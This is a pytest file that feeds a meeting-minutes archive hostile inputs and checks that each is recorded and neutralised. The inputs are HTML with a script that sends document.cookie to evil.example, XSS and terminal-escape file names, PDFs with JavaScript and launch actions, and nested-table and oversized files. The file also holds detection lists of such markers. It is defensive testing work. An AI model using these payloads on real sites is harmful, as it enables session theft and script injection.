"""Hostile papers and file names, made here: each ends as a `documents` row with its reason, the
run goes on, and nothing of them acts in a page the site serves. An HTML paper with scripts, a
frame, a meta refresh, a tracking image, a form and text that reads as tags; file names holding
HTML and terminal control characters; a PDF whose page runs JavaScript when opened and whose
links launch a program and submit a form, with a file attached; Word tables nested 5,000 deep
in a 1 kB file; a truncated Word file; ten thousand tiny PDF pages; one line of 200 MB.
(tests/test_hostile.py holds the others: encrypted, truncated and corrupt PDFs, zip and entity
bombs, wrong extensions, pipes, devices, links out of the folder, huge pages, blank scans,
pathological runs, time and memory limits, a dying worker, a file that vanishes.)"""

from __future__ import annotations

import asyncio
import io
import re
import zipfile

import pypdfium2 as pdfium
import pytest
import sqlite_utils
from datasette.utils.testing import TestClient
from reportlab.pdfgen import canvas

from minutebook.ingest.public_files import files_dir
from minutebook.ingest.publish import public_path
from minutebook.serve import hash_password, make_datasette

from .conftest import run_cli
from .hostile_pdf import write_pdf_with_actions
from .test_restricted import routes

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
NAMED = "<img src=x onerror=alert('name')>\x1b[31m pier board\x07.txt"
EMPTY = "<svg onload=alert('empty')>.txt"
BACKWARDS = "\u202etxt.exe\u202c pier board.txt"  # a right-to-left override: shown, it reads as 'exe.txt'
# zero-width spaces, a soft hyphen, a word joiner and a control character: none of them shows
INVISIBLE = "\u200bslip\u200bway\u00ad board\u2060\x7f.txt"
# what must never reach a page as markup
ACTIVE = ["<script>alert", "<script>document", "<img src=x onerror", "<svg onload", "<iframe", 'http-equiv="refresh"',
          "<b onmouseover", "evil.example", "\u202e"]
PDF_ACTIONS = [b"JavaScript", b"/JS", b"Launch", b"SubmitForm", b"EmbeddedFile", b"OpenAction", b"/AA", b"calc.exe",
               b"evil.example", b"Quorvex"]


def _docx(body: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("word/document.xml", f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>')
    return out.getvalue()


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def write_hostile_papers(folder):
    (folder / "tide board.html").write_text(
        "<html><head><title>Tide Board &lt;script&gt;alert(1)&lt;/script&gt; minutes</title>"
        '<meta http-equiv="refresh" content="0; url=http://evil.example/">'
        "<script>alert('script-in-head')</script></head><body>"
        "<h1>Minutes of the meeting of the Tide Board held on 4 April 2024</h1>"
        "<h2>1. Tide tables</h2><p>The Board agreed the tide tables for the summer season.</p>"
        "<script>document.location='http://evil.example/steal?'+document.cookie</script>"
        '<iframe src="http://evil.example/frame"></iframe>'
        "<p>Councillor Jane Smith noted the &lt;script&gt;alert('text-script')&lt;/script&gt; "
        "and &lt;img src=x onerror=alert('text-img')&gt; in the harbour report.</p>"
        '<img src="http://evil.example/pixel.png">'
        '<form action="http://evil.example/post"><input name="q"></form>'
        "<h2>2. Any other business</h2>"
        "<p>ACTION: Jane Smith to publish the &lt;b onmouseover=alert('act')&gt;tide tables by 1 May 2024.</p>"
        "</body></html>", encoding="utf-8")
    (folder / NAMED).write_text(
        "Minutes of the meeting of the Pier Board held on 5 April 2024\n\n1. Pier\n\nThe Board agreed the pier plan.\n")
    (folder / EMPTY).write_bytes(b"")
    (folder / BACKWARDS).write_text(
        "Minutes of the meeting of the Pier Board held on 6 April 2024\n\n1. Lights\n\nThe Board agreed the pier lights.\n")
    (folder / INVISIBLE).write_text(
        "Minutes of the meeting of the Slipway Board held on 7 April 2024\n\n1. Slipway\n\nThe Board agreed the slipway.\n")
    write_pdf_with_actions(folder / "pier actions.pdf", [
        "Minutes of the meeting of the Pier Board held on 3 June 2024", "1. REPAIRS",
        "The Board agreed the pier repainting schedule."], "Exempt appendix: the Quorvex offer")
    depth = 5000
    (folder / "nested tables.docx").write_bytes(_docx(
        _paragraph("Minutes of the meeting of the Slipway Board held on 1 March 2023")
        + "<w:tbl><w:tr><w:tc>" * depth + _paragraph("The Board agreed the slipway plan.")
        + "</w:tc></w:tr></w:tbl>" * depth))
    whole = _docx(_paragraph("Minutes of the meeting of the Slipway Board held on 1 March 2023") * 50)
    (folder / "truncated.docx").write_bytes(whole[: len(whole) // 2])


@pytest.fixture(scope="module")
def hostile_archive(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile-site")
    papers = root / "papers"
    papers.mkdir()
    write_hostile_papers(papers)
    db = root / "archive.db"
    # a budget the nested tables once took whole (their cells were read in cubic time)
    result = run_cli("ingest", papers, "--db", db, "--max-seconds", "15")
    return db, result


def _status(db) -> dict:
    return {r["filename"]: (r["status"], r["error"] or "")
            for r in sqlite_utils.Database(db).query("select filename, status, error from documents")}


def test_each_hostile_file_ends_as_a_row_with_its_reason(hostile_archive):
    db, result = hostile_archive
    assert result.returncode == 1 and "Traceback" not in result.stderr  # some failed; the run went on
    status = _status(db)
    assert status["tide board.html"] == ("ok", "")
    assert status[NAMED] == ("ok", "")  # the file name is kept as it is, and shown safely
    assert status[EMPTY] == ("error", "empty file")
    assert status[BACKWARDS] == ("ok", "")
    assert status["pier actions.pdf"] == ("ok", "")
    assert status["nested tables.docx"] == ("ok", "")
    assert status["truncated.docx"][0] == "error" and "not a Word document" in status["truncated.docx"][1]
    said = result.stdout + result.stderr
    assert "truncated.docx: error: not a Word document" in said  # the file and the reason, in one line
    assert "\x1b" not in said and "\x07" not in said  # a file name cannot drive the terminal
    page = sqlite_utils.Database(db).execute(
        "select text from pages where document_id = (select id from documents where filename = 'nested tables.docx')"
    ).fetchone()[0]
    assert "slipway plan" in page


def _sites(db):
    public = make_datasette(public_path(str(db)), public=True, name="archive", public_files=files_dir(str(db)))
    full = make_datasette(str(db), public=False, name="archive", password_hash=hash_password("a long pass phrase"))
    for ds in (public, full):
        asyncio.run(ds.invoke_startup())
    full_client = TestClient(full)
    login = full_client.post("/-/login", {"username": "admin", "password": "a long pass phrase"}, csrftoken_from=True)
    return [(TestClient(public), {}), (full_client, {"ds_actor": login.cookies["ds_actor"]})]


def test_no_page_of_the_site_carries_markup_or_a_request_from_a_paper(hostile_archive):
    db, _ = hostile_archive
    paths = routes(db) + ["/search?q=tide", "/search?q=script", "/search?q=pier", "/archive/passages?_search=script",
                          "/archive/documents?_sort=filename", "/archive/documents?_facet=status", "/people",
                          "/meetings", "/overdue?as_of=2100-01-01", "/archive/actions", "/archive/pages"]
    pages = 0
    for client, cookies in _sites(db):
        for path in paths:
            response = client.get(path, cookies=cookies, follow_redirects=True)
            assert response.status < 500, (path, response.status)
            kind = response.headers.get("content-type", "")
            if path.startswith("/-/source/"):
                if response.status == 200 and not kind.startswith("application/pdf"):  # a paper as served
                    policy = response.headers.get("content-security-policy", "")
                    assert "sandbox" in policy and "default-src 'none'" in policy, (path, policy)
                    assert response.headers.get("x-content-type-options") == "nosniff"
                continue
            if "html" in kind:
                pages += 1
                assert not [a for a in ACTIVE if a in response.text], (path, [a for a in ACTIVE if a in response.text])
    assert pages > 50


def test_a_file_name_is_titled_by_what_of_it_shows(hostile_archive):
    """A paper titled by its file name showed the name's zero-width and other invisible
    characters: a link whose label looked blank, or whose words did not match what was typed
    to find it. Its label holds what of the name shows."""
    db, _ = hostile_archive
    public = sqlite_utils.Database(public_path(str(db)))
    doc = public.execute("select id from documents where filename = ?", [INVISIBLE]).fetchone()[0]
    client, cookies = _sites(db)[0]
    page = client.get(f"/archive/pages?document_id={doc}", cookies=cookies)
    assert re.findall(rf'title="document {doc}">([^<]*)</a>', page.text) == ["slipway board"]


def test_a_pdfs_scripts_actions_and_attachments_are_not_served(hostile_archive):
    db, _ = hostile_archive
    doc = sqlite_utils.Database(db).execute("select id from documents where filename = 'pier actions.pdf'").fetchone()[0]
    for client, cookies in _sites(db)[:1]:  # the public site serves the rebuilt file
        response = client.get(f"/-/source/{doc}", cookies=cookies, follow_redirects=True)
        assert response.status == 200 and response.headers["content-type"] == "application/pdf"
        assert not [k for k in PDF_ACTIONS if k in response.body]
        served = pdfium.PdfDocument(response.body)
        assert "pier repainting schedule" in served[0].get_textpage().get_text_range()
        assert served.count_attachments() == 0


def test_ten_thousand_tiny_pages_and_one_line_of_200_mb_are_bounded_and_recorded(tmp_path):
    papers = tmp_path / "papers"
    papers.mkdir()
    c = canvas.Canvas(str(papers / "tiny pages.pdf"), pagesize=(20, 20))
    for _ in range(10_000):
        c.drawString(1, 5, "x")
        c.showPage()
    c.save()
    with open(papers / "one line.txt", "wb") as f:
        f.write(b"Minutes of the meeting of the Board held on 1 March 2023 ")
        chunk = b"word " * (1 << 20)
        for _ in range(40):
            f.write(chunk)
    (papers / "short.txt").write_text("Minutes of the Board held on 1 March 2023\n\nThe Board agreed the plan.\n")
    db = tmp_path / "big.db"
    result = run_cli("ingest", papers, "--db", db, "--max-seconds", "10", "--max-memory", "192")
    assert "Traceback" not in result.stderr
    status = _status(db)
    assert status["short.txt"] == ("ok", "")
    assert status["one line.txt"] == ("error", "too large to read: 210 MB, over the 25 MB a text, Markdown or HTML paper "
                                      "may be under the memory ceiling of 192 MB for one paper (raise --max-memory to read it)")
    # read and extracted whole within the 192 MB ceiling (it once peaked at 208 MB: OpenBLAS's
    # unused thread buffers, and a parse held for each of 10,000 passages of one text), or
    # stopped at the time budget on a loaded machine: never a hang, always a row
    tiny = status["tiny pages.pdf"]
    assert tiny == ("ok", "") or tiny[0] == "error" and "time budget" in tiny[1], tiny
